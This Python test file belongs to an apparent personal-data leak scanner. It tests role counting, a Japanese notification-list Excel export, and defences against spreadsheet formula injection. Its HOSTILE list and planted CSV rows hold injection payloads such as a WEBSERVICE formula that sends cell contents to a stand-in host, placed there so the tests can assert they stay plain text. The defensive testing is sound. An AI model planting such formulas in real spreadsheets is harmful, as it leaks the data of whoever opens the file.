"""People counted by role and kind, name-only leads left out of 本人の数, and the notification list: whole
addresses, readings and postal codes in their own columns, every value written as text (issues 16 and 9)."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from conftest import run_cli, run_leakscan
from openpyxl import load_workbook

from scanner.commands.persons import FORMULA_STARTS, write_export
from tests import person_tables_data as T
from tests import pii_data as D

JA = T.ja_people(24, seed=1603)
EN = T.en_people(12, seed=1604)


@pytest.fixture(scope="module")
def roles_case(tmp_path_factory):
    root = tmp_path_factory.mktemp("roles")
    share = root / "share"
    share.mkdir()
    (share / "orders.xlsx").write_bytes(D.xlsx_bytes({"注文": T.applicant_recipient(JA)}))
    (share / "customers.csv").write_bytes(D.csv_bytes(T.business_contacts(EN), "utf-8"))
    (share / "members.csv").write_bytes(D.csv_bytes(T.names_only(JA), "cp932"))
    out = root / "out"
    proc = run_leakscan("scan", str(share), "--name", "orders.xlsx", "--name", "customers.csv", "--name",
                        "members.csv", "--out", str(out), "--quiet")
    assert proc.returncode == 1, proc.stderr
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    return root, out, doc


def test_roles_and_business_contacts_are_counted_and_named(roles_case):
    _root, _out, doc = roles_case
    p = doc["persons"]
    assert p["records"] == p["unique"] == len(JA) + len(EN)  # name-only members are not persons
    assert p["roles"] == {"person": len(EN), "applicant": len(JA) // 2, "recipient": len(JA) // 2}
    assert p["business_contacts"] == len(EN)
    status = {Path(f["path"]).name: (f["status"], f["records"]) for f in p["files"]}
    assert status["members.csv"] == ("names-only", 0)
    assert status["orders.xlsx"] == ("ok", len(JA)) and status["customers.csv"] == ("ok", len(EN))


def test_report_shows_roles_business_contacts_and_leads(roles_case):
    _root, out, _doc = roles_case
    report = (out / "report.html").read_text(encoding="utf-8")
    assert 'id="persons-roles"' in report and "届先 12" in report and "申込者 12" in report
    assert 'id="persons-business"' in report and 'data-kind="business"' in report
    assert 'id="pii-leads"' in report
    for p in JA:
        assert p.name not in report and p.address not in report


def test_notification_list_has_whole_addresses_readings_postcodes_and_roles(roles_case, tmp_path):
    _root, out, doc = roles_case
    target = tmp_path / "list.xlsx"
    proc = run_cli("persons", str(out), "--export", str(target), "--sources", *doc["scan"]["sources"])
    assert proc.returncode == 0, proc.stderr
    assert "warning: #" not in proc.stderr and "the scan counted" not in proc.stderr
    ws = load_workbook(target)["本人一覧"]
    head = [c.value for c in ws[1]]
    rows = [dict(zip(head, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert len(rows) == doc["persons"]["unique"]
    by_name = {r["氏名"]: r for r in rows}
    half = len(JA) // 2
    for p, role in [(p, "申込者") for p in JA[:half]] + [(p, "届先") for p in JA[half:2 * half]]:
        r = by_name[p.name]
        assert (r["住所"], r["郵便番号"], r["役割"], r["区分"]) == (p.address, p.postcode, role, "個人")
    for p in EN:
        r = by_name[f"{p.first} {p.last}"]
        assert r["住所"] == f"{p.street} {p.city} {p.state}" and r["郵便番号"] == p.zip
        assert r["区分"] == "事業者の連絡先"


def test_notification_list_carries_the_reading_of_split_names(tmp_path):
    share = tmp_path / "share"
    share.mkdir()
    (share / "名簿.csv").write_bytes(D.csv_bytes(T.split_renditions(JA), "cp932"))
    out = tmp_path / "out"
    assert run_cli("scan", str(share), "--name", "名簿.csv", "--out", str(out), "--quiet").returncode == 1
    target = tmp_path / "list.xlsx"
    assert run_cli("persons", str(out), "--export", str(target), "--sources", str(share)).returncode == 0
    ws = load_workbook(target)["本人一覧"]
    head = [c.value for c in ws[1]]
    got = {r[head.index("氏名")]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    for p in JA:
        row = got[p.name]
        assert row[head.index("フリガナ")] == p.kana and row[head.index("住所")] == p.address


# --- formula injection (issue 9): every value is text ---------------------------------------------------------

HOSTILE = ["=WEBSERVICE(\"http://x.example/?\"&A1)", "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+2", "\r=1+2",
           "=HYPERLINK(\"http://x.example\",\"click\")"]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_export_writes_hostile_values_as_text_never_as_formulas(tmp_path):
    people = [{"name": v, "reading": v, "postcode": v, "address": v, "times": 1, "roles": v, "kind": "個人",
               "files": v, "spellings": 1, "check": v} for v in HOSTILE]
    people.append({"name": "山田\x01太郎", "reading": "", "postcode": "", "address": "東京都\x0b小金井市", "times": 1,
                   "roles": "本人", "kind": "個人", "files": "#1", "spellings": 1, "check": ""})
    target = tmp_path / "x.xlsx"
    from types import SimpleNamespace

    doc = SimpleNamespace(case={"id": "=CMD()", "examiner": "@x"}, scan=SimpleNamespace(started="-1"))
    write_export(target, people, doc)  # type: ignore[arg-type]
    xml = _sheet_xml(target)
    assert "<f>" not in xml and "<f " not in xml
    wb = load_workbook(target)
    ws = wb["本人一覧"]
    for i, value in enumerate(HOSTILE, 2):
        for col in "BCDEFJK":
            cell = ws[f"{col}{i}"]
            assert cell.value == value and cell.data_type == "s", (col, i, cell.value)
            assert cell.quotePrefix, (col, i)  # stays text when edited in Excel
    assert ws["B9"].value == "山田⟨U+0001⟩太郎" and ws["E9"].value == "東京都⟨U+000B⟩小金井市"
    info = wb["説明"]
    assert info["B1"].value == "=CMD()" and info["B1"].data_type == "s"
    assert all(v.startswith(FORMULA_STARTS) for v in HOSTILE)


def test_hostile_cells_of_a_leaked_file_stay_text_in_the_notification_list(tmp_path):
    share = tmp_path / "share"
    share.mkdir()
    rows = [["氏名", "フリガナ", "郵便番号", "住所"]]
    rows += [[p.name, p.kana, p.postcode, p.address] for p in JA[:10]]
    planted = [["=山田 太郎", "=WEBSERVICE(\"http://x.example\")", "@184-0004", "+東京都小金井市本町1-2-3"],
               ["-佐藤 花子", "+サトウ ハナコ", "184-0005", "-東京都小金井市本町1-2-4"]]
    rows += planted
    (share / "名簿.csv").write_bytes(D.csv_bytes(rows, "cp932"))  # text cells, as a CSV export holds them
    out = tmp_path / "out"
    assert run_cli("scan", str(share), "--name", "名簿.csv", "--out", str(out), "--quiet").returncode == 1
    target = tmp_path / "list.xlsx"
    proc = run_cli("persons", str(out), "--export", str(target), "--sources", str(share))
    assert proc.returncode == 0, proc.stderr
    xml = _sheet_xml(target)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(target)["本人一覧"]
    values = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for cell in (v for row in planted for v in row):
        assert cell in values and values[cell].data_type == "s", cell
    assert re.search(r'quotePrefix="1"', zipfile.ZipFile(target).read("xl/styles.xml").decode())
    assert io.BytesIO(target.read_bytes()).getbuffer().nbytes > 0
